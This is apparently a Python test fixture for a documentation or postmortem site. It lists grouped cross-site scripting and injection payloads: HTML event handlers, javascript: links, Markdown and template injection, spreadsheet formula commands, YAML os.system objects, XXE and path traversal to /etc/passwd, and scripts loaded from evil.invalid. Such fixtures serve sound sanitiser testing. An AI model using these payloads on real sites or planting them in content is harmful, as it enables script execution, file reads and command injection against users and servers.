"""Texts that try to become code, each with the context that it aims at. `pwned()` is what they want to call."""

from __future__ import annotations

from itertools import product

__all__ = ["GROUPS", "PAYLOADS", "Payload"]

Payload = tuple[str, str]
"""The context that a text aims at, and the text."""

CALL = "pwned()"
QUIET = "pwned``"
# HTML that runs by itself, or as soon as somebody looks at it, points at it or clicks on it.
VECTORS = {
    "script": f"<script>{CALL}</script>",
    "script in capitals": f"<ScRiPt>{CALL}</sCrIpT>",
    "script from elsewhere": "<script src=//evil.invalid/x.js></script>",
    "module script": f'<script type="module">{CALL}</script>',
    "picture that fails": f"<img src=x onerror={CALL}>",
    "picture without spaces": f"<img/src=x/onerror={QUIET}>",
    "picture in quotes": f'<img src="x" onerror="{CALL}">',
    "picture that loads": f"<img src=assets/images/favicon.png onload={CALL}>",
    "drawing": f"<svg onload={CALL}></svg>",
    "drawing with a script": f"<svg><script>{CALL}</script></svg>",
    "animation": f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    "animated link": f'<svg><a><animate attributeName=href values="javascript:{CALL}" /><text y=20>click</text></a></svg>',
    "foreign object": f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "used drawing": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:pwned()'/></svg>#x\"></use></svg>",
    "frame": f'<iframe src="javascript:{CALL}"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "object": '<object data="javascript:pwned()"></object>',
    "embedded": '<embed src="javascript:pwned()">',
    "details": f"<details open ontoggle={CALL}><summary>x</summary></details>",
    "video": f"<video><source onerror={CALL}></video>",
    "audio": f"<audio src=x onerror={CALL}></audio>",
    "focused input": f"<input autofocus onfocus={CALL}>",
    "focused selection": f"<select autofocus onfocus={CALL}></select>",
    "focused area": f"<textarea autofocus onfocus={CALL}></textarea>",
    "focused text": f"<p tabindex=1 autofocus onfocus={CALL}>x</p>",
    "hovered text": f"<b onmouseover={CALL}>hover</b>",
    "pointed text": f"<b onpointerenter={CALL}>point</b>",
    "clicked text": f"<b onclick={CALL}>click</b>",
    "animated text": f'<b style="animation: x 1s" onanimationstart={CALL}>x</b>',
    "link with a script": f'<a href="javascript:{CALL}">click</a>',
    "link with a tab in it": f'<a href="java\tscript:{CALL}">click</a>',
    "link with entities": f'<a href="&#106;avascript&colon;{CALL}">click</a>',
    "link with spaces before": f'<a href=" &#14; javascript:{CALL}">click</a>',
    "link to data": '<a href="data:text/html,<script>opener.pwned()</script>">click</a>',
    "link to a visual script": '<a href="vbscript:pwned()">click</a>',
    "link in a named target": f'<a href="https://example.org" target="{CALL}" onclick="{CALL}">click</a>',
    "form": f'<form action="javascript:{CALL}"><button>click</button></form>',
    "button of a form": f'<form><button formaction="javascript:{CALL}">click</button></form>',
    "picture that submits": f'<form><input type=image formaction="javascript:{CALL}" src=x></form>',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    "base": '<base href="//evil.invalid/">',
    "stylesheet": "<style>@import '//evil.invalid/x.css';</style>",
    "linked stylesheet": '<link rel=stylesheet href="//evil.invalid/x.css">',
    "import": '<link rel=modulepreload href="//evil.invalid/x.js">',
    "marquee": f"<marquee onstart={CALL}>x</marquee>",
    "popover": f"<button popovertarget=x>click</button><b popover id=x onbeforetoggle={CALL}>x</b>",
    "template": f"<template shadowrootmode=open><img src=x onerror={CALL}></template>",
    "custom element": f"<x-y onclick={CALL} tabindex=1 onfocus={CALL}>x</x-y>",
    "mathematics": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">',
    "mathematics link": f'<math href="javascript:{CALL}">click</math>',
    "no script": f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    "style that ends": f'<style><a title="</style><img src=x onerror={CALL}>"></style>',
    "text area that ends": f'<textarea><a title="</textarea><img src=x onerror={CALL}>"></textarea>',
    "comment that ends": f"<!--><img src=x onerror={CALL}>-->",
    "comment that ends oddly": f"<!-- --!><img src=x onerror={CALL}>",
    "declaration": f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={CALL}>'>]>&y;",
    "instruction": f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    "character data": f"<![CDATA[<img src=x onerror={CALL}>]]>",
    "nested tags": f"<<img src=x onerror={CALL}>script>{CALL}</script>",
    "tag that never ends": f"<img src=x onerror={CALL} ",
    "table": f"<table><td background=//evil.invalid/x><img src=x onerror={CALL}>",
}
# What stands around a value in a page, a script, a stylesheet or a file, and has to be left first.
ESCAPES = {
    "text": "",
    "attribute": '"> ',
    "attribute in single quotes": "'> ",
    "title": "</title>",
    "script's text": "</script>",
    "comment": "--> ",
    "character data": "]]> ",
    "heading": "</h1></header>",
}
AIMED = {
    "attribute without markup": ['" onmouseover="pwned()', "' onmouseover='pwned()", '" autofocus tabindex=1 onfocus="pwned()', "x onmouseover=pwned() ", '" style="position:fixed;inset:0" onclick="pwned()', "` onmouseover=`pwned()"],
    "script string": ['";pwned();//', "';pwned();//", "${pwned()}", "`;pwned();//", "\\';pwned();//", "</script><script>pwned()//", "{toString:pwned}", "__proto__", "constructor"],
    "address": ["javascript:pwned()", "JaVaScRiPt:pwned()", "javascript://x/%0apwned()", "data:text/html,<script>opener.pwned()</script>", "vbscript:pwned()", "//evil.invalid/x", "/\\evil.invalid", "https:evil.invalid", "https://good.example@evil.invalid/", "../../../etc/passwd", "%2e%2e/%2e%2e/x", "file:///etc/passwd", "blob:x", "view-source:x", "#<img src=x onerror=pwned()>", "?q=<img src=x onerror=pwned()>"],
    "Markdown link": ["[click](javascript:pwned())", "[click](<javascript:pwned()>)", "[click](JAVASCRIPT:pwned() 'x')", "[click][x]\n\n[x]: javascript:pwned()", "[click](&#x6A;avascript:pwned())", "[click](javascript&colon;pwned())", "<javascript:pwned()>", "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoKTwvc2NyaXB0Pg==)", "[click](https://example.org \"' onclick=pwned() '\")", '[click](https://example.org "\\" onclick=pwned() \\"")', "[![x](x)](javascript:pwned())", "[click](java\\\nscript:pwned())", "![x](javascript:pwned())", '![x](x "onerror=pwned()")', '![" onerror="pwned()](x)', "![x](data:image/svg+xml,<svg/onload=pwned()>)", "[a]: https://x.example '\"><img src=x onerror=pwned()>'\n\n[a]"],
    "attribute list": ["click {: onclick=pwned() }", 'x {: onmouseover="pwned()" style="color:red" }', "[click](https://example.org){ onclick=pwned() }", "# x {: #__search onclick=pwned() }", '| a |\n|---|\n| b {: onclick="pwned()" } |', "![x](x){ onerror=pwned() }"],
    "Markdown extension": ['!!! note "<img src=x onerror=pwned()>"\n    x', '??? note "<img src=x onerror=pwned()>"\n    x', '=== "<img src=x onerror=pwned()>"\n    x', '```{.x onclick="pwned()" title="<img src=x onerror=pwned()>"}\nx\n```', '``` "><img src=x onerror=pwned()>\nx\n```', "[^x]\n\n[^x]: <img src=x onerror=pwned()>", '*[x]: "><img src=x onerror=pwned()>\n\nx', "<div markdown='1' onclick='pwned()'>\n\n[click](javascript:pwned())\n\n</div>", '--8<-- "/etc/passwd"', "!!python/object/apply:os.system ['true']", "::: mkdocs_postmortems", "`#!html <img src=x onerror=pwned()>`", "{++<img src=x onerror=pwned()>++}", "++<img+src=x+onerror=pwned()>++", "$\\href{javascript:pwned()}{x}$", "``` mermaid\ngraph TD; A-->B; click A call pwned()\n```", '<pre class="mermaid"><code>graph TD; A-->B</code></pre>', "zqpmseamqz", "wzxhzdk:0", "klzzwxh:0001", "STXwzxhzdk:0ETX"],
    "template": ["{{ 7*7 }}", "{{ config }}", "{{ cycler.__init__.__globals__.os.popen('true').read() }}", "{% for x in range(9) %}x{% endfor %}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%- include 'main.html' -%}", "%(x)s", "{0.__class__}", "[[ 7*7 ]]"],
    "JSON": ['"}, "x": "', "\\", "\\u003cimg src=x onerror=pwned()\\u003e", "</script><!--", "\u2028pwned()\u2029".strip("\u2028\u2029")],
    "XML": ["&lt;script&gt;pwned()&lt;/script&gt;", "&#60;img src=x onerror=pwned()&#62;", "&amp;lt;img src=x onerror=pwned()&amp;gt;", "<x xmlns='http://www.w3.org/1999/xhtml'><script>pwned()</script></x>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>"],
    "calendar": ["x\\nEND:VEVENT\\nBEGIN:VEVENT", "x\\;ATTACH:javascript:pwned()", 'x";ALTREP="javascript:pwned()', "x:y;z,w\\"],
    "table of a spreadsheet": ['=HYPERLINK("javascript:pwned()")', "=cmd|' /C calc'!A0", "+1+cmd", "-1+1", "@SUM(1+1)", '"=1+1', "'=1+1", "=1+1,=2+2", "|calc", "%00=1"],
    "search": ["<mark>pwned</mark>", "pwned title:pwned^9 ~1", "*pwned*", "pwned<img src=x onerror=pwned()>pwned", "&lt;mark&gt;<b onclick=pwned()>pwned", "\x1fpwned".strip("\x1f")],
    "document's names": ['<a id="location" href="https://example.org">x</a>', "<img name=body><img name=getElementById>", '<form id="document$"><input name=subscribe></form>', '<a id=__md_scope></a><a id=__md_scope name=href href="//evil.invalid/">x</a>', "<b id=__search>x</b>", "<input type=checkbox id=__drawer name=cookie>", "<label for=__search>click</label>", '<p class="md-overlay">x</p>', '<div class="pm-sev" data-md-component="search">x</div>', '<p data-md-state="x" data-clipboard-text="x">x</p>'],
    "direction and look": ["ＪａｖａＳｃｒｉｐｔ：pwned()", "＜img src=x onerror=pwned()＞", "﹤script﹥pwned()﹤/script﹥", "ʺ onmouseover=ʺpwned()", "+ADw-script+AD4-pwned()+ADw-/script+AD4-", "%3Cscript%3Epwned()%3C/script%3E", "\\x3cscript\\x3epwned()\\x3c/script\\x3e"],
}  # fmt: skip
_LEFT = ("picture that fails", "script", "drawing", "hovered text", "details", "link with a script", "frame with a document", "focused input")

PAYLOADS: list[Payload] = [
    *((f"HTML: {name}", text) for name, text in VECTORS.items()),
    *((f"{place}, then {name}", ESCAPES[place] + VECTORS[name]) for place, name in product(list(ESCAPES)[1:], _LEFT)),
    *((context, text) for context, texts in AIMED.items() for text in texts),
]
"""Every text once, with what it aims at."""

_TOGETHER = 4
GROUPS = [[text for _, text in PAYLOADS[at : at + _TOGETHER]] for at in range(0, len(PAYLOADS), _TOGETHER)]
"""The texts of each incident of the hostile site."""
